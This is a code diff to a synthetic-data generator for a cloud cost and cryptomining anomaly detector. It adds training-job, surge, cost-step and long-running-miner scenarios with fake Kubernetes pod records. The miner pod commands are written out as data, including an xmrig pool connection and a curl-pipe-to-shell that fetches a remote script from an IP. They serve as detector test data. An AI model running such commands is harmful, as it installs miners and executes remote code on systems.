@@ -26,21 +26,32 @@ import pandas as pd
 
 from .model import COST_COLUMNS, USAGE_COLUMNS, normalize_costs, normalize_usage
 
-__all__ = ["INCIDENT_KINDS", "MINING_KINDS", "Scenario", "demo_scenario", "generate"]
+__all__ = ["ALL_KINDS", "CLASS_KINDS", "COST_CHANGE_KINDS", "INCIDENT_KINDS", "MINING_KINDS", "Scenario",
+           "demo_scenario", "generate"]
 
 INCIDENT_KINDS: tuple[str, ...] = (
     "mining_new_nodes", "mining_existing_nodes", "mining_stealth", "mining_cost_only",
     "benign_surge", "planned_step", "budget_breach",
 )
-MINING_KINDS = frozenset({"mining_new_nodes", "mining_existing_nodes", "mining_stealth", "mining_cost_only"})
+# the failure classes of issue 16, generated with ``failure_classes=True``: a busy node saturating inside a
+# project-wide surge, a legitimate training job on new GPU nodes, a miner that has run for 30+ days, an
+# unplanned persistent cost step and a runaway spend spike of a few days
+CLASS_KINDS: tuple[str, ...] = ("saturating_surge", "legit_gpu_job", "mining_long", "cost_step", "cost_spike")
+ALL_KINDS: tuple[str, ...] = INCIDENT_KINDS + CLASS_KINDS
+MINING_KINDS = frozenset({"mining_new_nodes", "mining_existing_nodes", "mining_stealth", "mining_cost_only",
+                          "mining_long"})
+# incidents an owner must hear about as a cost change (a cost alert or a budget forecast)
+COST_CHANGE_KINDS = frozenset({"budget_breach", "cost_step", "cost_spike"})
 _CPU_KINDS = frozenset({"mining_new_nodes", "mining_existing_nodes", "mining_stealth", "benign_surge",
-                        "planned_step"})
+                        "planned_step", "saturating_surge", "legit_gpu_job", "mining_long"})
 # most constrained first, so a small scenario still gets one incident of each kind when it can
-_PLACEMENT_ORDER = ("mining_cost_only", "mining_new_nodes", "mining_existing_nodes", "mining_stealth",
-                    "benign_surge", "planned_step", "budget_breach")
+_PLACEMENT_ORDER = ("mining_cost_only", "saturating_surge", "mining_new_nodes", "mining_existing_nodes",
+                    "mining_stealth", "mining_long", "legit_gpu_job", "benign_surge", "planned_step",
+                    "budget_breach", "cost_step", "cost_spike")
 
 HOUR = pd.Timedelta(hours=1)
 DAY = pd.Timedelta(days=1)
+_POD_COLUMNS = ("project_id", "node", "namespace", "pod", "image", "labels", "command")
 
 
 @dataclass
@@ -50,6 +61,11 @@ class Scenario:
 
     ``incidents.nodes`` are node names; a node's cost rows carry a ``resource_id`` that is, or ends with,
     that name.  ``projects`` also carries the home ``region`` and ``currency``.  Data covers ``[start, end)``.
+
+    ``pods`` is the Kubernetes view of the incident nodes a cluster API would give (node, namespace, pod,
+    image, labels, command): what tells a training job from an allowlisted registry with owner labels from
+    a miner's pod.  ``patterns`` lists the recurring patterns of clean history per project (month-end jobs,
+    holidays, autoscaling, deploys, hot nodes), ``failure_classes=True`` only.
     """
 
     costs: pd.DataFrame
@@ -58,6 +74,9 @@ class Scenario:
     projects: pd.DataFrame
     start: pd.Timestamp
     end: pd.Timestamp
+    pods: pd.DataFrame = field(default_factory=lambda: pd.DataFrame(columns=list(_POD_COLUMNS)))
+    patterns: pd.DataFrame = field(default_factory=lambda: pd.DataFrame(columns=["project_id", "pattern", "detail"]))
+
 
 
 # ----------------------------------------------------------------------------------------- catalogue
@@ -180,6 +199,7 @@ class _Project:
     other_nodes: list[int] = field(default_factory=list)  # secondary pool, churn replacements
     batch_nodes: list[int] = field(default_factory=list)
     office_nodes: list[int] = field(default_factory=list)
+    hot_node: int = -1  # failure classes: a node that usually runs at 60-75% CPU
     networking_series: int = -1
     pool: Any = None  # the main node pool, so autoscaled and step-up nodes continue its naming
 
@@ -240,7 +260,9 @@ class _Series:
 class _CpuOp:
     """One incident's effect on CPU, applied to the nodes x hours matrices after the normal shape."""
 
-    kind: str  # "scale" (surge), "step" (capacity step), "pin" (new miner nodes), "floor" (miner on a node)
+    # "scale" (surge), "step" (capacity step or deploy), "pin" (new miner or training nodes), "floor" (miner on
+    # a node), "saturate" (a busy node capped at 100%)
+    kind: str
     rows: list[int]
     t0: int
     t1: int
@@ -270,12 +292,16 @@ class _World:
     ops: list[_CpuOp] = field(default_factory=list)
     budget_unit: dict[int, int] = field(default_factory=dict)  # project -> series idx of the breach service
     labels: list[dict[str, Any]] = field(default_factory=list)
+    holidays: np.ndarray | None = None  # projects x days: public holidays of the project's users
+    pods: list[dict[str, Any]] = field(default_factory=list)
+    patterns: list[dict[str, Any]] = field(default_factory=list)
 
 
 # ----------------------------------------------------------------------------------------------- API
 
 def generate(seed: int = 7, n_projects: int = 12, days: int = 70, end: str | pd.Timestamp = "2026-11-20",
-             incident_kinds: Sequence[str] | None = None, clean: bool = False) -> Scenario:
+             incident_kinds: Sequence[str] | None = None, clean: bool = False,
+             failure_classes: bool = False) -> Scenario:
     """A labelled multi-cloud data set covering the ``days`` whole UTC days before ``end``.
 
     ``end`` is exclusive and is what ``detect(..., as_of=scenario.end)`` should be given.  Incidents start
@@ -283,8 +309,17 @@ def generate(seed: int = 7, n_projects: int = 12, days: int = 70, end: str | pd.
     every detector has a normal to compare against.  Each requested kind is placed once, then more are
     drawn until about 45% of projects have one (at most one each); a kind no project can host (cost-only
     mining needs a project without CPU data) is skipped rather than faked.
+
+    ``failure_classes=True`` adds what issue 16 found detectors tuned on the plain scenarios get wrong
+    (use 120+ days so monthly patterns repeat): in every world, clean projects included, month-end /
+    month-start (and quarter-end) batch jobs on about a quarter of projects, public-holiday dips, an
+    autoscaler adding and removing nodes, deploy-day steps in CPU, and nodes that usually run at 60-75%;
+    and the incident kinds ``CLASS_KINDS``: saturating surges, legitimate GPU training jobs, miners running
+    30-40 days (to the end of the data: a miner is active for as long as it runs), unplanned persistent
+    cost steps started 4-25 days before the end, and runaway spend spikes.  Its random draws come from a
+    stream of their own, so the default worlds are unchanged.
     """
-    return _generate(seed, n_projects, days, end, incident_kinds, clean, _Knobs())
+    return _generate(seed, n_projects, days, end, incident_kinds, clean, _Knobs(), failure_classes)
 
 
 def demo_scenario() -> Scenario:
@@ -297,33 +332,41 @@ def demo_scenario() -> Scenario:
 
 
 def _generate(seed: int, n_projects: int, n_days: int, end: str | pd.Timestamp,
-              incident_kinds: Sequence[str] | None, clean: bool, knobs: _Knobs) -> Scenario:
+              incident_kinds: Sequence[str] | None, clean: bool, knobs: _Knobs,
+              failure_classes: bool = False) -> Scenario:
     if n_projects < 1 or n_days < 2:
         raise ValueError("a scenario needs at least one project and two days")
-    kinds = tuple(INCIDENT_KINDS if incident_kinds is None else incident_kinds)
-    unknown = [k for k in kinds if k not in INCIDENT_KINDS]
+    known = ALL_KINDS if failure_classes else INCIDENT_KINDS
+    kinds = tuple(known if incident_kinds is None else incident_kinds)
+    unknown = [k for k in kinds if k not in known]
     if unknown:
-        raise ValueError(f"unknown incident kind(s) {', '.join(unknown)}; known: {', '.join(INCIDENT_KINDS)}")
+        hint = "" if failure_classes or not set(unknown) <= set(CLASS_KINDS) else " (needs failure_classes=True)"
+        raise ValueError(f"unknown incident kind(s) {', '.join(unknown)}{hint}; known: {', '.join(known)}")
     end_ts = pd.Timestamp(end)
     end_ts = (end_ts.tz_localize("UTC") if end_ts.tzinfo is None else end_ts.tz_convert("UTC")).floor("D")
     start_ts = end_ts - n_days * DAY
     days = pd.date_range(start_ts, periods=n_days, freq="D")
     n_hours = 24 * n_days
-    r_proj, r_nodes, r_cpu, r_cost, r_inc = (np.random.default_rng(s) for s in np.random.SeedSequence(seed).spawn(5))
+    # a sixth child for the failure classes: SeedSequence children are keyed by index, so the first five
+    # are the same as before it existed
+    r_proj, r_nodes, r_cpu, r_cost, r_inc, r_cls = (
+        np.random.default_rng(s) for s in np.random.SeedSequence(seed).spawn(6))
 
     projects = _make_projects(r_proj, n_projects, n_days)
     used: set[str] = set()
     nodes = _make_fleet(r_nodes, projects, n_hours, used)
     series = _Series()
     _make_services(r_cost, projects, series, days)
+    world = _World(r_inc, projects, nodes, series, days, used, n_hours)
+    if failure_classes:
+        _recurring_patterns(world, r_cls)
     n_base_nodes, n_base_series = len(nodes), len(series.project)
     missing = _missing_days(r_cost, projects, n_days)
 
-    world = _World(r_inc, projects, nodes, series, days, used, n_hours)
     if not clean and kinds:
         _place_incidents(world, kinds, knobs)
 
-    alive = _alive(nodes, projects, days)
+    alive = _alive(nodes, projects, days, world.holidays)
     node_cost, hours_run = _node_costs(nodes, alive, n_days)
     clean_net, clean_gross = _clean_daily(projects, nodes, series, node_cost, n_base_nodes, n_base_series,
                                           missing, n_days)
@@ -343,7 +386,9 @@ def _generate(seed: int, n_projects: int, n_days: int, end: str | pd.Timestamp,
         "region": [p.region for p in projects],
         "currency": [p.currency for p in projects],
     })
-    return Scenario(costs, usage, incidents, proj, start_ts, end_ts)
+    pods = pd.DataFrame(world.pods, columns=list(_POD_COLUMNS))
+    patterns = pd.DataFrame(world.patterns, columns=["project_id", "pattern", "detail"])
+    return Scenario(costs, usage, incidents, proj, start_ts, end_ts, pods, patterns)
 
 
 # ------------------------------------------------------------------------------------------ projects
@@ -683,6 +728,10 @@ def _eligible(p: _Project, kind: str) -> bool:
         return False
     if kind == "mining_cost_only":
         return not p.has_usage
+    if kind == "saturating_surge":
+        return p.hot_node >= 0
+    if kind == "legit_gpu_job":
+        return p.has_usage and p.cluster is not None
     if kind in _CPU_KINDS:
         return p.has_usage and len(p.main_nodes) >= 2
     return True
@@ -691,8 +740,15 @@ def _eligible(p: _Project, kind: str) -> bool:
 def _start_hour(rng: np.random.Generator, kind: str, n_hours: int) -> int:
     """Within the last ten days, after three weeks of history, leaving time for the signal to show:
     CPU signals need hours, cost signals need whole (published) days."""
+    if kind == "mining_long":  # 30-40 days before the end, after three weeks of history
+        lo = max(21 * 24, n_hours - 40 * 24)
+        return min(int(rng.integers(lo, max(n_hours - 30 * 24, lo + 1))), n_hours - 1)
+    if kind == "cost_step":  # a new level 4-25 days old by the end
+        lo = max(21 * 24, n_hours - 25 * 24)
+        return min(int(rng.integers(lo, max(n_hours - 4 * 24, lo + 1))), n_hours - 1)
     lo = max(int(min(21 * 24, 0.6 * n_hours)), n_hours - 240)
-    latest = {"mining_new_nodes": 30, "mining_existing_nodes": 30, "mining_stealth": 30}.get(kind, 96)
+    latest = {"mining_new_nodes": 30, "mining_existing_nodes": 30, "mining_stealth": 30, "legit_gpu_job": 30,
+              "saturating_surge": 72}.get(kind, 96)
     hi = max(n_hours - latest, lo + 1)
     return min(int(rng.integers(lo, hi)), n_hours - 1)
 
@@ -748,6 +804,7 @@ def _mining_new_nodes(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
     gpu = bool(rng.random() < 0.4) if knobs.new_nodes_gpu is None else knobs.new_nodes_gpu
     new_region = bool(rng.random() < 0.6) if knobs.new_nodes_new_region is None else knobs.new_nodes_new_region
     rows, region, itype = _miner_fleet(w, p, t0, t1, gpu=gpu, new_region=new_region, count=None, usage=True)
+    _miner_pods(w, p, rows)
     where = f"in {region}, a region the project never used" if new_region else f"in its home region {region}"
     _label(w, "mining_new_nodes", p, t0, t1, [w.nodes.name[i] for i in rows], region,
            f"{len(rows)} new {itype}{' (GPU)' if gpu else ''} nodes launched {where}, CPU pinned at ~99%")
@@ -787,6 +844,7 @@ def _mining_existing_nodes(w: _World, p: _Project, t0: int, knobs: _Knobs) -> No
     t1 = _mining_end(w.rng, t0, w.n_hours, knobs)
     rows = _victims(w, p, t0, 0.3, 1.0)
     w.ops.append(_CpuOp("floor", rows, t0, t1, float(w.rng.uniform(98.0, 99.5)), 0.4))
+    _miner_pods(w, p, rows)
     _label(w, "mining_existing_nodes", p, t0, t1, [w.nodes.name[i] for i in rows], p.region,
            f"miner on {len(rows)} existing node(s), CPU pinned at ~99%, no new spend")
 
@@ -796,6 +854,7 @@ def _mining_stealth(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
     rows = _victims(w, p, t0, 0.25, 1.0)
     level = float(w.rng.uniform(50, 75)) if knobs.stealth_level is None else knobs.stealth_level
     w.ops.append(_CpuOp("floor", rows, t0, t1, level, 1.0))
+    _miner_pods(w, p, rows)
     _label(w, "mining_stealth", p, t0, t1, [w.nodes.name[i] for i in rows], p.region,
            f"miner capped at {level:.0f}% CPU on {len(rows)} existing node(s): a flat plateau, no new spend")
 
@@ -854,10 +913,253 @@ def _budget_breach(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
            f"new {cloud.ml} spend from {_when(w, t0):%Y-%m-%d}; the month-end forecast crosses the budget")
 
 
+# ------------------------------------------------------------------------- failure classes (issue 16)
+
+_MINER_IMAGES = ("docker.io/xmrig/xmrig:latest", "docker.io/library/ubuntu:22.04", "ghcr.io/kd8x2/worker:latest",
+                 "docker.io/alpine:3.19")
+_MINER_COMMANDS = ("xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1", "./start.sh",
+                   "/var/tmp/.x/kworker -B -o 45.9.148.21:443",  # noqa: S108 (a miner's command line)
+                   "sh -c 'curl -s http://45.9.148.21/i.sh | sh'")
+
+
+def _registry(p: _Project) -> str:
+    """The project's own (allowlisted) image registry."""
+    if p.provider == "aws":
+        return f"{p.project_id}.dkr.ecr.{p.region}.amazonaws.com"
+    if p.provider == "gcp":
+        return f"{p.region}-docker.pkg.dev/{p.project_id}/ml"
+    return f"cr{p.name.replace('-', '')[:20]}.azurecr.io"
+
+
+def _miner_pods(w: _World, p: _Project, rows: list[int]) -> None:
+    """What a cluster API shows on a miner's nodes: no owner labels, an image from outside the project's
+    registry; about half the miners are obvious (xmrig, a pool address), the rest are not.  No random draws,
+    so the default worlds stay what they were."""
+    for i in rows:
+        if w.nodes.cluster[i] is None:
+            continue
+        name = w.nodes.name[i]
+        k = sum(map(ord, name)) % len(_MINER_IMAGES)
+        w.pods.append({"project_id": p.project_id, "node": name, "namespace": ("default", "kube-system")[k % 2],
+                       "pod": f"worker-{name[-5:]}", "image": _MINER_IMAGES[k], "labels": {},
+                       "command": _MINER_COMMANDS[k]})
+
+
+_HOLIDAYS: dict[str, tuple[str, ...]] = {
+    "us": ("2026-01-01", "2026-01-19", "2026-02-16", "2026-05-25", "2026-07-03", "2026-09-07", "2026-10-12",
+           "2026-11-11", "2026-11-26", "2026-11-27", "2026-12-25", "2027-01-01"),
+    "eu": ("2026-01-01", "2026-04-03", "2026-04-06", "2026-05-01", "2026-05-14", "2026-05-25", "2026-08-15",
+           "2026-10-03", "2026-11-01", "2026-12-25", "2026-12-26", "2027-01-01"),
+    "asia": ("2026-01-01", "2026-02-17", "2026-05-01", "2026-08-10", "2026-09-21", "2026-10-12", "2026-11-03",
+             "2026-11-23", "2026-12-25", "2027-01-01"),
+}
+
+
+def _holiday_zone(region: str) -> str:
+    if region.startswith(("us-", "eastus")):
+        return "us"
+    if region.startswith(("eu-", "europe-", "westeurope", "northeurope")):
+        return "eu"
+    return "asia"
+
+
+def _recurring_patterns(w: _World, rng: np.random.Generator) -> None:
+    """Clean-history patterns a detector must learn rather than alert on (every project, clean ones too).
+
+    - month-end batch jobs on about a quarter of projects: compute up x1.3-1.5 on the last two days of every
+      month (or the first two: month-start), one in five also on the third-to-last day of a quarter's last
+      month.  They run on a managed batch service, so they show in compute spend, not in node CPU.
+    - public holidays of the project's users: traffic-driven spend and CPU at weekend level.
+    - an autoscaler (a third of projects) adding one or two nodes for 3-10 hours on about one day in eight.
+    - deploy days (a third of projects with CPU data): the main pool's CPU steps x0.8-1.25 for good.
+    - a node that usually runs at 60-75% CPU (a quarter of projects with CPU data)."""
+    days, n_days, n_hours = w.days, len(w.days), w.n_hours
+    nodes = w.nodes
+    w.holidays = np.zeros((len(w.projects), n_days), dtype=bool)
+    day_str = np.asarray(days.strftime("%Y-%m-%d"))
+    last = np.asarray(days.days_in_month - days.day)  # 0 on the last day of the month
+    dom = np.asarray(days.day)
+    quarter_end = np.asarray(days.month % 3 == 0)
+    for p in w.projects:
+        cloud = _CLOUDS[p.provider]
+        w.holidays[p.idx] = np.isin(day_str, _HOLIDAYS[_holiday_zone(p.region)]) & (np.arange(n_days) >= p.first_day)
+        if p.networking_series >= 0 and w.holidays[p.idx].any():
+            k = p.networking_series
+            w.series.values[k] = np.round(np.where(w.holidays[p.idx], w.series.values[k] * rng.uniform(0.6, 0.85),
+                                                   w.series.values[k]), 6)
+        if not p.new and rng.random() < 0.25:
+            variant = str(rng.choice(["month-end", "month-start", "quarter-end"], p=[0.6, 0.2, 0.2]))
+            factor = float(rng.uniform(0.3, 0.5))
+            on = (dom <= 2) if variant == "month-start" else (last <= 1)
+            if variant == "quarter-end":
+                on = on | ((last == 2) & quarter_end)
+            vals = np.where(on, factor * max(p.compute_daily, 5.0) * np.exp(rng.normal(0, 0.05, n_days)), 0.0)
+            w.series.add(p.idx, cloud.services["Compute"], "Compute", p.region, "Usage",
+                         f"{p.name}-{variant}-batch", dict(p.tags), np.round(vals, 6))
+            w.patterns.append({"project_id": p.project_id, "pattern": variant,
+                               "detail": f"compute x{1 + factor:.2f} on {variant} days"})
+        if not p.has_usage or len(p.main_nodes) < 2:
+            continue
+        pool = p.pool
+        if rng.random() < 0.33:
+            events = 0
+            for d in np.flatnonzero(rng.random(n_days) < 0.12):
+                if d < p.first_day + 1:
+                    continue
+                h0 = int(24 * d + (p.peak_hour - p.tz) % 24 - rng.integers(0, 4))
+                h1 = min(h0 + int(rng.integers(3, 11)), n_hours)
+                if not 0 <= h0 < h1:
+                    continue
+                like = p.main_nodes[int(rng.integers(len(p.main_nodes)))]
+                for _ in range(int(rng.integers(1, 3))):
+                    p.other_nodes.append(_add_node(
+                        nodes, rng, pool, w.used_names, h0, h1, peak=nodes.peak[like], trough=nodes.trough[like],
+                        sigma=nodes.sigma[like], discount=p.discount))
+                events += 1
+            w.patterns.append({"project_id": p.project_id, "pattern": "autoscaling",
+                               "detail": f"{events} scale-outs of 3-10 h"})
+        if rng.random() < 0.33:
+            for _ in range(int(rng.integers(1, 3))):
+                at = int(rng.integers(min(10 * 24, n_hours - 1), n_hours))
+                level = float(rng.uniform(0.8, 1.25))
+                w.ops.append(_CpuOp("step", list(p.main_nodes), at, n_hours, level))
+                w.patterns.append({"project_id": p.project_id, "pattern": "deploy",
+                                   "detail": f"CPU x{level:.2f} from {_when(w, at):%Y-%m-%d %H:%M}"})
+        if len(p.main_nodes) >= 3 and rng.random() < 0.25:
+            hot = p.main_nodes[int(rng.integers(len(p.main_nodes)))]
+            nodes.peak[hot] = float(rng.uniform(66, 76))
+            nodes.trough[hot] = nodes.peak[hot] * float(rng.uniform(0.8, 0.9))
+            nodes.trend[hot] = 0.0
+            p.hot_node = hot
+            usual = f"{nodes.trough[hot]:.0f}-{nodes.peak[hot]:.0f}%"
+            w.patterns.append({"project_id": p.project_id, "pattern": "hot node",
+                               "detail": f"{nodes.name[hot]} usually at {usual}"})
+
+
+def _saturating_surge(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
+    """The project surges with its usual daily shape (cost x1.3-1.6 for 1-3 days, the autoscaler adds nodes)
+    and its busy node, usually at 60-75%, hits 100% for 2-3 hours at the daily peak: flat because capped."""
+    rng = w.rng
+    t1 = min(t0 + int(rng.integers(24, 73)), w.n_hours)
+    mult = float(rng.uniform(1.3, 1.6))
+    rows = [i for i in p.main_nodes + p.other_nodes + p.office_nodes if w.nodes.h0[i] <= t0 < w.nodes.h1[i]]
+    base = [i for i in rows if not w.nodes.office[i]]
+    n_add = max(1, round((mult - 1) * len(base)))
+    peak = float(np.mean([w.nodes.peak[i] for i in base if i != p.hot_node] or [30.0]))
+    added = []
+    for _ in range(n_add):
+        h0 = min(t0 + int(rng.integers(0, 3)), t1 - 1)
+        added.append(_add_node(w.nodes, rng, p.pool, w.used_names, h0, min(t1 + int(rng.integers(1, 4)), w.n_hours),
+                               peak=peak, trough=peak * float(rng.uniform(0.25, 0.5)), sigma=float(rng.uniform(3, 6)),
+                               discount=p.discount))
+    w.ops.append(_CpuOp("scale", rows + added, t0, t1, mult))
+    # the daily peak inside the surge (UTC hour of the project's local peak), capped for 2-3 hours
+    peak_utc = round(p.peak_hour - p.tz) % 24
+    first = t0 + (peak_utc - t0 % 24) % 24 - 1
+    if first + 3 > t1:
+        first = max(t0, t1 - 4)
+    dur = int(rng.integers(2, 4))
+    w.ops.append(_CpuOp("saturate", [p.hot_node], first, min(first + dur, t1), 99.7, 0.3))
+    if p.networking_series >= 0:
+        frac = _day_overlap(t0, t1, len(w.days))
+        k = p.networking_series
+        w.series.values[k] = np.round(w.series.values[k] * (1 + (mult - 1) * frac), 6)
+    _label(w, "saturating_surge", p, t0, t1, [w.nodes.name[i] for i in [p.hot_node, *added]], p.region,
+           f"traffic x{mult:.2f} for {(t1 - t0) / 24:.1f} days with the daily shape; busy node "
+           f"{w.nodes.name[p.hot_node]} capped at 100% for {dur} h at the peak, {len(added)} node(s) added")
+
+
+def _legit_gpu_job(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
+    """A training job on new, pinned GPU nodes in the project's own cluster and home region: images from
+    the project's registry, owner labels, no miner signs.  CPU is high and steady, as training is."""
+    rng = w.rng
+    cloud = _CLOUDS[p.provider]
+    t1 = min(t0 + int(rng.integers(24, 121)), w.n_hours)
+    itype, usd = cloud.gpu[int(rng.integers(len(cloud.gpu)))]
+    pool = _new_pool(rng, p, {"aws": "gpu-train", "gcp": "train-pool", "azure": "trainpool"}[p.provider], p.cluster,
+                     p.region, itype, usd)
+    count = int(rng.integers(1, 5))
+    rows = [_add_node(w.nodes, rng, pool, w.used_names, min(t0 + int(rng.integers(0, 2)), t1 - 1), t1, peak=0.0,
+                      trough=0.0, sigma=0.0, discount=p.discount) for _ in range(count)]
+    for i in rows:
+        w.nodes.tags[i].update({"workload": "training", "job": f"{p.team}-train-{_when(w, t0):%m%d}"})
+    level = float(rng.uniform(80, 95))
+    w.ops.append(_CpuOp("pin", rows, t0, t1, level, float(rng.uniform(1.5, 3.0))))
+    image = f"{_registry(p)}/{p.team}-trainer:{int(rng.integers(1, 9))}.{int(rng.integers(0, 20))}"
+    for i in rows:
+        if w.nodes.cluster[i] is not None:
+            w.pods.append({"project_id": p.project_id, "node": w.nodes.name[i], "namespace": "ml-training",
+                           "pod": f"{p.team}-train-{w.nodes.name[i][-5:]}", "image": image,
+                           "labels": {"owner": p.owner, "team": p.team, "app": "trainer"},
+                           "command": "python train.py --config configs/prod.yaml"})
+    _label(w, "legit_gpu_job", p, t0, t1, [w.nodes.name[i] for i in rows], p.region,
+           f"training job on {count} new {itype} GPU node(s) in {p.region} at ~{level:.0f}% CPU for "
+           f"{(t1 - t0) / 24:.1f} days; image {image}, owner {p.owner}")
+
+
+def _mining_long(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
+    """A miner that started 30-40 days before the data ends and still runs: on new nodes, pinned existing
+    nodes, or capped stealthily on existing nodes."""
+    rng = w.rng
+    t1 = w.n_hours
+    variant = str(rng.choice(["new nodes", "existing", "stealth"]))
+    if variant == "new nodes":
+        rows, region, itype = _miner_fleet(w, p, t0, t1, gpu=bool(rng.random() < 0.3), new_region=False,
+                                           count=int(rng.integers(1, 4)), usage=True)
+        what = f"{len(rows)} new {itype} node(s) pinned at ~99%"
+    else:
+        rows = _victims(w, p, t0, 0.25, 0.8)
+        level = float(rng.uniform(98.0, 99.5)) if variant == "existing" else float(rng.uniform(50, 75))
+        w.ops.append(_CpuOp("floor", rows, t0, t1, level, 0.4 if variant == "existing" else 1.0))
+        region = p.region
+        what = f"miner at {level:.0f}% on {len(rows)} existing node(s)"
+    _miner_pods(w, p, rows)
+    _label(w, "mining_long", p, t0, t1, [w.nodes.name[i] for i in rows], region,
+           f"{what} since {_when(w, t0):%Y-%m-%d}, still running ({(t1 - t0) / 24:.0f} days)")
+
+
+def _cost_step(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
+    """A new level nobody planned: a forgotten always-on database replica or provisioned capacity, +30-80%
+    of the project's daily spend from ``t0`` to the end."""
+    rng = w.rng
+    cloud = _CLOUDS[p.provider]
+    cat = str(rng.choice(["Databases", "Analytics", "Storage"]))
+    level = float(rng.uniform(0.3, 0.8)) * _daily_spend(w, p)
+    vals = level * _day_overlap(t0, w.n_hours, len(w.days)) * np.exp(rng.normal(0, 0.04, len(w.days)))
+    w.series.add(p.idx, cloud.services[cat], cat, p.region, "Usage", f"{_service_resource(p, cat) or p.name}-new",
+                 dict(p.tags), np.round(vals, 6))
+    _label(w, "cost_step", p, t0, w.n_hours, [], p.region,
+           f"new always-on {cloud.services[cat]} spend of {level:,.2f}/day from {_when(w, t0):%Y-%m-%d}, unplanned")
+
+
+def _cost_spike(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
+    """Runaway spend for 1-3 days (a query loop, a log flood, egress): +50-200% of the daily spend."""
+    rng = w.rng
+    cloud = _CLOUDS[p.provider]
+    cat = str(rng.choice(["Analytics", "Networking", "Management and Governance"]))
+    t1 = min(t0 + 24 * int(rng.integers(1, 4)), w.n_hours)
+    level = float(rng.uniform(0.5, 2.0)) * _daily_spend(w, p)
+    vals = level * _day_overlap(t0, t1, len(w.days))
+    w.series.add(p.idx, cloud.services[cat], cat, p.region, "Usage", _service_resource(p, cat), dict(p.tags),
+                 np.round(vals, 6))
+    _label(w, "cost_spike", p, t0, t1, [], p.region,
+           f"runaway {cloud.services[cat]} spend, +{level:,.2f}/day for {(t1 - t0) / 24:.0f} day(s)")
+
+
+def _daily_spend(w: _World, p: _Project) -> float:
+    """The project's nominal usage spend per day: its base compute plus its services over the last weeks."""
+    tot = max(p.compute_daily, 5.0)
+    for k, j in enumerate(w.series.project):
+        if j == p.idx and w.series.charge[k] == "Usage":
+            tot += float(np.mean(w.series.values[k][-28:]))
+    return tot
+
+
 _INCIDENT_MAKERS: dict[str, Callable[[_World, _Project, int, _Knobs], None]] = {
     "mining_new_nodes": _mining_new_nodes, "mining_existing_nodes": _mining_existing_nodes,
     "mining_stealth": _mining_stealth, "mining_cost_only": _mining_cost_only, "benign_surge": _benign_surge,
-    "planned_step": _planned_step, "budget_breach": _budget_breach,
+    "planned_step": _planned_step, "budget_breach": _budget_breach, "saturating_surge": _saturating_surge,
+    "legit_gpu_job": _legit_gpu_job, "mining_long": _mining_long, "cost_step": _cost_step, "cost_spike": _cost_spike,
 }
 
 
@@ -869,7 +1171,8 @@ def _day_overlap(t0: int, t1: int, n_days: int) -> np.ndarray:
 
 # ------------------------------------------------------------------------------------------- costing
 
-def _alive(nodes: _Nodes, projects: list[_Project], days: pd.DatetimeIndex) -> np.ndarray:
+def _alive(nodes: _Nodes, projects: list[_Project], days: pd.DatetimeIndex,
+           holidays: np.ndarray | None = None) -> np.ndarray:
     """Nodes x hours: when each node ran.  Billing and CPU samples both come from this one matrix."""
     n_hours = 24 * len(days)
     hour = np.arange(n_hours)
@@ -878,6 +1181,9 @@ def _alive(nodes: _Nodes, projects: list[_Project], days: pd.DatetimeIndex) -> n
     if office.size:
         local = hour[None, :] + np.asarray([p.tz for p in projects])[:, None]
         open_p = (local % 24 >= 8) & (local % 24 < 20) & ((local // 24 + days[0].dayofweek) % 7 < 5)
+        if holidays is not None:
+            day_i = np.clip(local // 24, 0, len(days) - 1)
+            open_p &= ~np.take_along_axis(holidays, day_i, axis=1)
         alive[office] &= open_p[np.asarray(nodes.project)[office]]
     return alive
 
@@ -1050,7 +1356,10 @@ def _usage_frame(w: _World, rng: np.random.Generator, n_base_nodes: int, alive_a
     days_i = hour // 24
     local = hour[None, :] + tz
     bump_p = np.exp(-0.5 * ((local % 24 - peak_h) / width) ** 2)
-    bump_p *= np.where((local // 24 + w.days[0].dayofweek) % 7 >= 5, wkend, 1.0)
+    off = (local // 24 + w.days[0].dayofweek) % 7 >= 5
+    if w.holidays is not None:
+        off |= np.take_along_axis(w.holidays, np.clip(local // 24, 0, n_days - 1), axis=1)
+    bump_p *= np.where(off, wkend, 1.0)
     level_p = day_factor[:, days_i]
     peak, trough = arr(nodes.peak), arr(nodes.trough)
     drift = 1 + arr(nodes.trend)[:, None] * (days_i[None, :] - n_days)
@@ -1067,11 +1376,11 @@ def _usage_frame(w: _World, rng: np.random.Generator, n_base_nodes: int, alive_a
         noise[r, at] = 0.7 * z[r, at]
     pos = {int(node): r for r, node in enumerate(rows)}
     cpu = None
-    for op in sorted(w.ops, key=lambda o: o.kind in ("pin", "floor")):
+    for op in sorted(w.ops, key=lambda o: o.kind in ("pin", "floor", "saturate")):
         rr = np.asarray([pos[i] for i in op.rows if i in pos], dtype=int)
         if rr.size == 0:
             continue
-        if op.kind in ("pin", "floor") and cpu is None:
+        if op.kind in ("pin", "floor", "saturate") and cpu is None:
             cpu = shape + noise
         sl = slice(op.t0, op.t1)
         if op.kind == "scale":
@@ -1086,6 +1395,8 @@ def _usage_frame(w: _World, rng: np.random.Generator, n_base_nodes: int, alive_a
             if cpu is None:
                 raise ValueError(f"scenario op {op.kind!r} changes CPU, but the scenario has no CPU matrix")
             flat = op.level + op.std * w.rng.standard_normal((rr.size, op.t1 - op.t0))
+            if op.kind == "saturate":  # capped at 100%: flat because of the ceiling, not because of a miner
+                flat = np.minimum(flat, 100.0)
             cpu[rr, sl] = flat if op.kind == "pin" else np.maximum(cpu[rr, sl], flat)
     if cpu is None:
         cpu = shape + noise
